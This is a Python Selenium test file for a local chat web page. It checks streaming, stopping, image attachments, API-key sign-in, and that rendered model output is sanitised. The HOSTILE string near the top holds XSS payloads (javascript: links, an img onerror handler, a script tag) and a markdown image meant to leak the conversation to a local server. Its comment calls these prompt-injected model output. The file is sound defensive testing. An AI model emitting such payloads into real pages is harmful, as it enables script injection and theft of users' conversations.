"""The chat page in headless Chromium (Debian's chromium + chromedriver through Selenium; no browser download).

The server runs a scripted generation (a stand-in for the model) so the page's rendering is what is
checked: streamed markdown with a highlighted code block, the thinking collapsible, stop, an image.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from test_server import RunningServer, scripted

from mlx_qwen35.surfaces.server.routes import ServerSettings
from mlx_qwen35.surfaces.server.worker import GenerationWorker

# Debian's chromium here; GitHub's runners ship Google Chrome with a matching chromedriver instead.
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
CHROMEDRIVER = shutil.which("chromedriver")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None or CHROMEDRIVER is None, reason="needs chromium (or Chrome) and its chromedriver"
)

REPLY = "Weighing it up.\n</think>\n\nHere is **code**:\n\n```python\nprint('hi')\n```\n" + "More text. " * 150
# What a prompt injection could make a model write: script in links and raw HTML, images that leak data.
HOSTILE = (
    "done\n</think>\n\n[click me](javascript:window.pwned='link') and [docs](https://example.com/docs) "
    "and <img src=x onerror=\"window.pwned='img'\"> and <script>window.pwned='script'</script> "
    "<a href=\"javascript:window.pwned='raw'\">raw link</a>\n\n"
    "![secret](http://127.0.0.1:{leak_port}/leak.png?q=the-conversation) [mail](mailto:a@example.com)"
)


class FakeProcessor:
    """Enough of a processor for the worker: templates to a fixed prompt, accepts images, counts requests."""

    def __init__(self):
        self.requests = 0

    def apply_chat_template(self, messages, **kwargs):
        self.requests += 1
        self.last_messages = messages
        return "prompt"

    def encode(self, text):
        return [1, 2, 3]

    def __call__(self, messages, **kwargs):
        self.requests += 1
        self.last_messages = messages
        return [1, 2, 3, 4]  # stands in for ModelInputs: the scripted generation only counts it


class LeakServer:
    """An HTTP server on another port that records every request (a remote image must never reach it)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


@pytest.fixture(scope="module")
def leak():
    server = LeakServer()
    yield server
    server.close()


def page(leak: LeakServer, **settings) -> RunningServer:
    """A server whose scripted model answers "hostile" prompts with HOSTILE and everything else with REPLY."""
    processor = FakeProcessor()
    hostile, reply = scripted(HOSTILE.format(leak_port=leak.port), delay=0.005), scripted(REPLY, delay=0.01)

    def generate(model, processor, prompt, **options):
        content = processor.last_messages[-1]["content"]
        chosen = hostile if isinstance(content, str) and "hostile" in content else reply
        return chosen(model, processor, prompt)

    worker = GenerationWorker(lambda: (None, processor), generate=generate)
    running = RunningServer(worker, ServerSettings(model_id="scripted", **settings))
    running.processor = processor
    return running


@pytest.fixture(scope="module")
def page_server(leak):
    running = page(leak)
    yield running
    running.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--window-size=1200,800",
        f"--user-data-dir={tmp_path_factory.mktemp('chromium-profile')}",
    ):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})  # CSP violations are logged there
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    yield driver
    driver.quit()


def wait_for(condition, timeout: float = 15.0):
    deadline = time.time() + timeout
    while not (value := condition()):
        assert time.time() < deadline, "timed out waiting for the page"
        time.sleep(0.05)
    return value


# Read through JavaScript: the page re-renders while streaming, which makes element handles stale.
def find(browser, css):
    return browser.execute_script(f"return document.querySelectorAll({css!r}).length")


def text(browser, css):
    return browser.execute_script(f"const e = document.querySelector({css!r}); return e ? e.textContent : ''")


def stored_roles(browser) -> list[str]:
    """The roles of the messages of the current (newest) conversation in localStorage."""
    stored = browser.execute_script("return localStorage.getItem('mlx-qwen35.conversations')")
    return [m["role"] for m in json.loads(stored)[0]["messages"]]


def policy_violations(browser) -> list[str]:
    return [e["message"] for e in browser.get_log("browser") if "Content Security Policy" in e["message"]]


def test_chat_page_streams_stops_and_attaches(page_server, browser, tmp_path):
    from PIL import Image
    from selenium.webdriver.common.by import By

    browser.get(page_server.url)

    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")

    # Send a message and watch the answer stream in, then stop it mid-way.
    browser.find_element(By.ID, "prompt").send_keys("Show me code")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: find(browser, ".message.assistant pre code.hljs"))
    assert text(browser, "details.thinking div") == "Weighing it up."
    assert text(browser, ".message.assistant strong") == "code"
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: "stopped" in text(browser, ".message.assistant .meta"))
    answer = text(browser, ".message.assistant .answer")
    assert answer.startswith("Here is code") and answer.count("More text.") < 150, "stop did not stop the stream"
    wait_for(lambda: not page_server.worker.busy, timeout=3)

    # Attach an image through the file input: a thumbnail, then an image part sent to the processor.
    image = tmp_path / "blue.png"
    Image.new("RGB", (40, 30), "blue").save(image)
    browser.find_element(By.ID, "file").send_keys(str(image))
    wait_for(lambda: find(browser, "#attachments img"))
    browser.find_element(By.ID, "prompt").send_keys("What is this?")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: find(browser, ".message.user img") == 1)
    wait_for(lambda: "tok/s" in text(browser, "#stats"), timeout=30)
    user_turn = page_server.processor.last_messages[-1]
    assert user_turn["content"][0]["type"] == "image" and user_turn["content"][0]["image"].size == (40, 30)

    # The conversation survives a reload (localStorage).
    browser.refresh()
    wait_for(lambda: find(browser, ".message.user") == 2)

    shot = tmp_path / "chat-page.png"
    browser.save_screenshot(str(shot))
    print(f"screenshot: {shot}")
    assert policy_violations(browser) == []  # the page works within its Content-Security-Policy


def test_model_output_cannot_run_script_or_load_remote_images(page_server, leak, browser, tmp_path):
    from selenium.webdriver.common.by import By

    browser.get(page_server.url)
    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")
    browser.find_element(By.ID, "new-chat").click()
    browser.find_element(By.ID, "prompt").send_keys("Say something hostile")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: "context" in text(browser, ".message.assistant .meta"))  # the reply is complete
    answer = ".message.assistant .answer"
    assert find(browser, f"{answer} img") == 0 and find(browser, f"{answer} script") == 0
    assert find(browser, f"{answer} [onerror]") == 0
    links = browser.execute_script(
        f"return [...document.querySelectorAll('{answer} a')].map(a => [a.textContent, a.getAttribute('href'),"
        " a.target, a.rel])"
    )
    image_url = f"http://127.0.0.1:{leak.port}/leak.png?q=the-conversation"
    assert links == [
        ["click me", None, "", ""],  # the javascript: URL is gone: an inert anchor
        ["docs", "https://example.com/docs", "_blank", "noopener noreferrer"],
        ["image: secret", image_url, "_blank", "noopener noreferrer"],  # a link to click, never loaded
        ["mail", "mailto:a@example.com", "_blank", "noopener noreferrer"],
    ]
    assert "<img src=x" in text(browser, answer) and "raw link</a>" in text(browser, answer)  # raw HTML as text
    browser.execute_script(f"document.querySelector('{answer} a').click()")
    assert browser.execute_script("return window.pwned === undefined")
    assert leak.hits == [] and policy_violations(browser) == []
    browser.save_screenshot(str(tmp_path / "hostile-reply.png"))
    print(f"screenshot: {tmp_path / 'hostile-reply.png'}")


def test_enter_while_a_reply_streams_does_not_send_again_and_stop_stops_it(page_server, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    browser.get(page_server.url)
    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")
    browser.find_element(By.ID, "new-chat").click()
    before = page_server.processor.requests
    browser.find_element(By.ID, "prompt").send_keys("first" + Keys.ENTER)
    wait_for(lambda: "More text." in text(browser, ".message.assistant .answer"))
    browser.find_element(By.ID, "prompt").send_keys("second" + Keys.ENTER)
    browser.find_element(By.ID, "prompt").send_keys(Keys.ENTER)
    assert browser.find_element(By.ID, "prompt").get_attribute("value") == "second"  # kept for later
    assert page_server.processor.requests == before + 1
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: "stopped" in text(browser, ".message.assistant .meta"))
    wait_for(lambda: not page_server.worker.busy, timeout=3)  # Stop reached the one live request
    assert stored_roles(browser) == ["user", "assistant"]
    assert find(browser, ".message.assistant") == 1 and "More text." in text(browser, ".message.assistant .answer")

    browser.find_element(By.ID, "prompt").send_keys(Keys.ENTER)  # now it sends
    wait_for(lambda: page_server.processor.requests == before + 2)
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: stored_roles(browser) == ["user", "assistant", "user", "assistant"])


def test_with_an_api_key_the_browser_signs_in_and_the_page_works(leak, browser):
    from selenium.webdriver.common.by import By

    running = page(leak, api_key="sesame")
    try:
        # Without the key the browser shows its sign-in prompt (test_server checks the 401 and its challenge);
        # credentials in the URL are what signing in there does: the key as the password, any user name.
        browser.get(running.url.replace("http://", "http://me:sesame@"))
        wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")  # /health with the key
        browser.find_element(By.ID, "prompt").send_keys("Hello")
        browser.find_element(By.ID, "send").click()
        wait_for(lambda: "More text." in text(browser, ".message.assistant .answer"))
        browser.find_element(By.ID, "stop").click()
        wait_for(lambda: not running.worker.busy, timeout=3)
        assert browser.execute_script("return localStorage.getItem('mlx-qwen35.api-key')") is None
    finally:
        running.close()
